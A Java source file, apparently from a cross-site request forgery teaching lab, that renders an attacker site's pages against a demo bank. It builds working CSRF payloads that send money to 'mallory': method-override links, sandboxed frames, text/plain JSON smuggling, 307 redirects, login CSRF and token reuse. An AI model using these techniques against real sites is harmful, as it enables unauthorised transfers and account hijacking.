package dev.tallystick.bank.attacker;

import java.util.LinkedHashMap;
import java.util.Locale;
import java.util.Map;
import org.jspecify.annotations.Nullable;
import org.thymeleaf.TemplateEngine;
import org.thymeleaf.context.Context;
import org.thymeleaf.templatemode.TemplateMode;
import org.thymeleaf.templateresolver.ClassLoaderTemplateResolver;

/** The attacker's pages as HTML; Thymeleaf escapes every value. */
final class Pages {
    private final TemplateEngine engine = new TemplateEngine();
    private final String attackerOrigin;
    private final String bankOrigin;

    Pages(String attackerOrigin, String bankOrigin) {
        this.attackerOrigin = attackerOrigin;
        this.bankOrigin = bankOrigin;
        ClassLoaderTemplateResolver resolver = new ClassLoaderTemplateResolver(Pages.class.getClassLoader());
        resolver.setPrefix("attacker/");
        resolver.setSuffix(".html");
        resolver.setTemplateMode(TemplateMode.HTML);
        resolver.setCharacterEncoding("UTF-8");
        engine.setTemplateResolver(resolver);
    }

    /** The page with all cards. */
    String home() {
        return render(
                "home",
                Map.of("families", Attack.Family.values(), "attacks", Attack.values(), "targets", Target.values()));
    }

    /** The page that carries out an attack in a window of its own. */
    String attack(Attack attack, Target target) {
        return switch (attack) {
            case LINK -> link(transfers(target) + "?to=mallory&amount=" + attack.pounds());
            case LINK_POSING_AS_POST -> link(transfers(target) + "?_method=POST&to=mallory&amount=" + attack.pounds());
            case SANDBOXED_FRAME ->
                render("sandbox", Map.of("frame", "/attack/" + attack.id() + "/" + target.id() + "/frame"));
            case FORM_MULTIPART -> form(transfers(target), "multipart/form-data", null, transfer(attack));
            case FORM_TEXT_PLAIN -> form(transfers(target), "text/plain", null, json(attack));
            case REDIRECT_307 -> form("/redirect/" + target.id(), null, null, transfer(attack));
            case LOGIN ->
                form(
                        bankOrigin + target.mount() + "/login",
                        null,
                        null,
                        Map.of("user", "mallory", "password", "mallory"));
            default -> form(transfers(target), null, null, transfer(attack));
        };
    }

    /** The frame without an origin, whose form takes the whole window along. */
    String frame(Attack attack, Target target) {
        return form(transfers(target), null, "_top", transfer(attack));
    }

    /** The form with a token of the attacker's own session, if the bank gives one. */
    String stolenToken(Target target, Mallory.@Nullable StolenToken stolen) {
        Map<String, String> fields = transfer(Attack.STOLEN_TOKEN);
        if (stolen != null) {
            fields.put(stolen.field(), stolen.token());
        }
        return form(transfers(target), null, null, fields);
    }

    String failure(String sentence) {
        return render("failure", Map.of("sentence", sentence));
    }

    private String transfers(Target target) {
        return bankOrigin + target.mount() + "/transfers";
    }

    private String form(String action, @Nullable String enctype, @Nullable String target, Map<String, String> fields) {
        return render(
                "form",
                Map.of(
                        "action",
                        action,
                        "enctype",
                        enctype == null ? "application/x-www-form-urlencoded" : enctype,
                        "target",
                        target == null ? "_self" : target,
                        "fields",
                        fields));
    }

    private String link(String href) {
        return render("link", Map.of("href", href));
    }

    private static Map<String, String> transfer(Attack attack) {
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put("to", "mallory");
        fields.put("amount", attack.pounds());
        return fields;
    }

    /** A form of type text/plain writes name=value: split so, the line is JSON. */
    private static Map<String, String> json(Attack attack) {
        return Map.of("{\"to\":\"mallory\",\"amount\":\"" + attack.pounds() + "\",\"filler\":\"", "\"}");
    }

    private String render(String template, Map<String, Object> variables) {
        Context context = new Context(Locale.ROOT, variables);
        context.setVariable("attackerOrigin", attackerOrigin);
        context.setVariable("bankOrigin", bankOrigin);
        return engine.process(template, context);
    }
}
